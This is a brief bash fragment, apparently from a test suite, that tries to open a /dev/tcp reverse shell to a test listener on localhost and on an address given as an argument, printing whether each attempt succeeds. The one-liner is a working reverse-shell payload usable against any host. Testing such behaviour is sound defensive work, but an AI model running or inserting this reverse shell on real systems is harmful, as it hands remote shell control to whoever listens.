# Further case: bash's /dev/tcp reverse shell towards the test's listener. Args: address port.
for address in 127.0.0.1 "$1"; do
    if bash -c 'exec 3<>"/dev/tcp/$0/$1" && exec bash -i <&3 >&3 2>&3' "$address" "$2" 2>/dev/null; then
        echo "bash-$address ok"
    else
        echo "bash-$address fail"
    fi
done
